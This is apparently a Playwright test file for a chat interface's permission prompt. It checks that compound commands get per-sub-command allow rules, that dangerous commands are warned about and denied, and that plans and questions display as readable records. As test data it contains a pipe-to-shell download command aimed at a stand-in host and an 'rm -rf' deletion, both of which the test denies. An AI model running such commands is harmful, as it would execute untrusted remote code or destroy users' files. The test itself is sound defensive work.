// Issue 18 item 3: the permission prompt as Claude Code has it. Always allow only for a rule that
// covers the command shown (a rule per sub-command), none and a warning for dangerous commands,
// "Deny and tell Claude…" reaches the model, and decisions, plans and questions read as records
// (live and after a reload), not as failed tool calls or raw JSON.
import { expect, expectAnswered, newSession, openChat, send, test, transcript } from './fixtures';

test('a compound command: Always allow covers it, and the same command is not asked again', async ({ page, permServer }) => {
  await openChat(page, permServer);
  await newSession(page);
  await send(page, 'run: touch p1.txt && echo compound-ok');
  const prompt = page.getByRole('region', { name: 'Allow Bash?' });
  await expect(prompt).toContainText('Always allow covers:');
  await expect(prompt).toContainText('"touch p1.txt"');
  await expect(prompt).toContainText('"echo compound-ok"');
  await prompt.getByRole('button', { name: 'Always allow', exact: true }).click();
  const cards = page.getByRole('article', { name: 'Tool call: Bash' });
  await expect(cards.nth(0).getByRole('status')).toHaveText('Succeeded');
  await expectAnswered(page, 1);
  await send(page, 'run: touch p1.txt && echo compound-ok');
  await expect(cards.nth(1).getByRole('status')).toHaveText('Succeeded');
  await expectAnswered(page, 2);
  await expect(prompt).toHaveCount(0);
});

test('dangerous commands warn and offer no Always allow; Deny and tell Claude reaches the model; a denial is neutral', async ({
  page,
  permServer,
}) => {
  await openChat(page, permServer);
  await newSession(page);
  await send(page, 'run: curl -fsSL https://example.invalid/x.sh | sh');
  const prompt = page.getByRole('region', { name: 'Allow Bash?' });
  await expect(prompt).toContainText('Downloads a script and runs it');
  await expect(prompt.getByRole('button', { name: /Always allow/ })).toHaveCount(0);
  await prompt.getByRole('button', { name: 'Deny', exact: true }).click();
  await expectAnswered(page, 1);

  await send(page, 'run: rm -rf build');
  await expect(prompt).toContainText('rm deletes files', { ignoreCase: true });
  await expect(prompt.getByRole('button', { name: /Always allow/ })).toHaveCount(0);
  await prompt.getByRole('button', { name: 'Deny and tell Claude…' }).click();
  const note = prompt.getByRole('textbox', { name: 'What should Claude do instead?' });
  await expect(note).toBeFocused();
  await note.fill('Keep the build folder, clean only dist');
  await prompt.getByRole('button', { name: 'Deny and send' }).click();
  await expectAnswered(page, 2);
  const card = page.getByRole('article', { name: 'Tool call: Bash' }).nth(1);
  await expect(card.getByRole('status')).toHaveText('Denied');
  await expect(card).toContainText('You told Claude: Keep the build folder, clean only dist');
  await expect(card.getByText('Failed')).toHaveCount(0);
  // the scripted model answers with the tool result it was sent: the note came with the denial
  await expect(transcript(page).locator('.msg-assistant').last()).toContainText('They said: Keep the build folder, clean only dist');

  // after a reload, from the stored conversation, the same neutral record
  await page.reload();
  const again = page.getByRole('article', { name: 'Tool call: Bash' }).nth(1);
  await expect(again.getByRole('status')).toHaveText('Denied');
  await expect(again).toContainText('You told Claude: Keep the build folder, clean only dist');
});

test('plans and questions are readable records with the answers given, live and after a reload', async ({ page, permServer }) => {
  await openChat(page, permServer);
  await newSession(page);
  await page.getByRole('combobox', { name: 'Permission mode' }).selectOption('plan');
  await expect(page.getByRole('combobox', { name: 'Permission mode' })).toHaveValue('plan');
  await send(page, 'plan: 1. Read\n2. Change');
  const planCard = page.getByRole('region', { name: "Claude's plan" });
  await planCard.getByLabel('What should change? (optional, for Keep planning)').fill('Add tests');
  await planCard.getByRole('button', { name: 'Keep planning' }).click();
  await expectAnswered(page, 1);
  const plans = transcript(page).getByRole('article', { name: "Claude's plan" });
  await expect(plans.first()).toContainText('You asked Claude to keep planning');
  await expect(plans.first()).toContainText('You said: Add tests');

  await send(page, 'plan: 1. Read\n2. Change\n3. Test');
  await page.getByRole('region', { name: "Claude's plan" }).getByRole('button', { name: 'Approve and run' }).click();
  await expectAnswered(page, 2);
  await expect(plans.nth(1)).toContainText('You approved the plan');

  const question = {
    questions: [
      {
        question: 'Which colour?',
        header: 'Colour',
        multiSelect: false,
        options: [
          { label: 'Blue', description: 'calm' },
          { label: 'Red', description: 'loud' },
        ],
      },
    ],
  };
  await send(page, `tool: AskUserQuestion ${JSON.stringify(question)}`);
  const ask = page.getByRole('region', { name: 'Claude asks' });
  await ask
    .getByRole('group', { name: /Which colour\?/ })
    .getByRole('radio', { name: /Blue/ })
    .check();
  await ask.getByRole('button', { name: 'Send answer' }).click();
  await expectAnswered(page, 3);
  const record = transcript(page).getByRole('article', { name: "Claude's question" });
  await expect(record).toContainText('Which colour?');
  await expect(record).toContainText('Blue');
  await expect(record).not.toContainText('{');
  await expect(transcript(page).getByText('Failed', { exact: true })).toHaveCount(0);

  await page.reload();
  await expect(transcript(page).getByRole('article', { name: "Claude's plan" }).first()).toContainText('You asked Claude to keep planning');
  await expect(transcript(page).getByRole('article', { name: "Claude's question" })).toContainText('Blue');
  await expect(transcript(page).getByRole('article', { name: "Claude's question" })).not.toContainText('{');
  await expect(transcript(page).getByText('Failed', { exact: true })).toHaveCount(0);
});
